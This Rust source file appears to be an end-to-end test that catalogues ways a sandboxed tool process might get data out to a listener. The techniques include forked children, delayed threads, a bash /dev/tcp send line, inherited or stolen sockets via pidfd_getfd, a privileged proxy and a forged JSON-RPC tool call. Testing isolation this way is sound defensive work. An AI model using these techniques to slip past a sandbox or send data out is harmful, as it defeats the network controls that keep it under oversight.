//! By way of others: children, threads, sockets that somebody else made, and somebody else's word.

use std::{
    io::{self, Read as _, Write as _},
    os::{
        fd::{AsRawFd as _, OwnedFd},
        unix::net::UnixStream,
    },
    process::Command,
    time::Duration,
};

use e2e::sys::{self, sockaddr};
use serde_json::json;

use crate::{Home, Way, later, tcp, way};

/// Where the client put a socket that is connected to home.
const INHERITED: i32 = 77;
const AFTER: Duration = Duration::from_millis(250);

pub(crate) const WAYS: &[Way] = &[
    way("child", |h| {
        let child = sys::fork(|| code(direct(h)))?;
        outcome(sys::wait(child)?)
    }),
    way("grandchild-in-a-session-of-its-own", |h| {
        let child = sys::fork(|| {
            drop(sys::plain(libc::SYS_setsid, [0; 4]));
            match sys::fork(|| code(direct(h))) {
                Ok(grandchild) => sys::wait(grandchild).map_or(255, |s| s >> 8),
                Err(e) => e.raw_os_error().unwrap_or(255),
            }
        })?;
        outcome(sys::wait(child)?)
    }),
    later("child-after-the-reply", |h| {
        let _child = sys::fork(|| {
            std::thread::sleep(AFTER);
            code(direct(h))
        })?;
        Ok(())
    }),
    later("thread-after-the-reply", |h| {
        let h = h.clone();
        std::thread::spawn(move || {
            std::thread::sleep(AFTER);
            direct(&h)
        });
        Ok(())
    }),
    way("thread", |h| {
        let h = h.clone();
        std::thread::spawn(move || direct(&h)).join().map_err(|_panic| io::Error::other("it panicked"))?
    }),
    way("shell", |h| {
        let script = format!("exec 3<>/dev/tcp/{}/{} && echo {} >&3", h.four.ip(), h.four.port(), h.mark);
        ran(Command::new("bash").arg("-c").arg(script))
    }),
    way("own-program-again", |h| {
        // Another process image of the same file, with channels of its own: a nested server.
        let mut child = Command::new(std::env::current_exe()?)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()?;
        let request = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "report",
            "arguments": {"way": "tcp", "home": h}}});
        let (mut to, from) = (child.stdin.take(), child.stdout.take());
        if let Some(to) = &mut to {
            writeln!(to, "{request}")?;
        }
        drop(to);
        let mut said = String::new();
        from.ok_or(io::ErrorKind::BrokenPipe)?.read_to_string(&mut said)?;
        child.wait()?;
        if said.contains("went out") { Ok(()) } else { Err(io::Error::other(said)) }
    }),
    way("inherited-socket", |h| sys::write(INHERITED, h.mark())),
    way("inherited-socket-by-sendfile", |h| {
        let file = sys::memfd("out")?;
        sys::write(file.as_raw_fd(), h.mark())?;
        sys::plain(libc::SYS_lseek, [sys::number(&file), 0, 0, 0])?;
        sys::plain(libc::SYS_sendfile, [INHERITED as u64, sys::number(&file), 0, h.mark().len() as u64])
            .map(drop)
    }),
    way("inherited-socket-by-child", |h| {
        let child = sys::fork(|| code(sys::write(INHERITED, h.mark())))?;
        outcome(sys::wait(child)?)
    }),
    way("passed-socket", |h| {
        let stream = UnixStream::connect(&h.passer)?;
        let fd = sys::receive_fd(stream.as_raw_fd())?;
        sys::write(fd.as_raw_fd(), h.mark())
    }),
    way("stolen-socket", |h| {
        let process = sys::adopt(sys::plain(libc::SYS_pidfd_open, [h.pid, 0, 0, 0])? as u32)?;
        let fd = sys::plain(libc::SYS_pidfd_getfd, [sys::number(&process), h.fd, 0, 0])?;
        let fd: OwnedFd = sys::adopt(fd as u32)?;
        sys::write(fd.as_raw_fd(), h.mark())
    }),
    later("connection-of-another-call", |h| {
        // What the permitted host gets after the call that may talk to it.
        let h = h.clone();
        std::thread::spawn(move || -> io::Result<()> {
            std::thread::sleep(AFTER);
            tcp(h.permitted)?.write_all(h.mark())
        });
        Ok(())
    }),
    way("unix-proxy", |h| tell_proxy(h, &format!("send {}\n", h.mark))),
    way("forged-call", |h| {
        // The tool that may talk to the permitted host is called by itself.
        forge(h)?;
        let mut s = tcp(h.permitted)?;
        s.write_all(h.mark())
    }),
];

fn direct(h: &Home) -> io::Result<()> {
    let s = sys::tcp()?;
    sys::connect(&s, &sockaddr(h.four))?;
    sys::send(&s, h.mark(), 0)
}

fn code(result: io::Result<()>) -> i32 {
    result.map_or_else(|e| e.raw_os_error().unwrap_or(255), |()| 0)
}

fn outcome(status: i32) -> io::Result<()> {
    match status >> 8 {
        0 => Ok(()),
        errno => Err(io::Error::from_raw_os_error(errno)),
    }
}

fn ran(command: &mut Command) -> io::Result<()> {
    let done = command.output()?;
    if done.status.success() {
        return Ok(());
    }
    Err(io::Error::other(String::from_utf8_lossy(&done.stderr).trim().to_owned()))
}

/// Says something to the unix socket of a process that has rights of its own.
pub(crate) fn tell_proxy(h: &Home, text: &str) -> io::Result<()> {
    let mut s = UnixStream::connect(&h.proxy)?;
    s.write_all(text.as_bytes())?;
    let mut said = [0];
    s.read_exact(&mut said)
}

fn forge(h: &Home) -> io::Result<()> {
    let line = json!({"jsonrpc": "2.0", "id": "forged", "method": "tools/call",
        "params": {"name": "fetch", "arguments": {"to": h.permitted}}});
    let own = sys::open("/proc/self/fd/0", libc::O_WRONLY)?;
    sys::write(own.as_raw_fd(), format!("{line}\n").as_bytes())
}
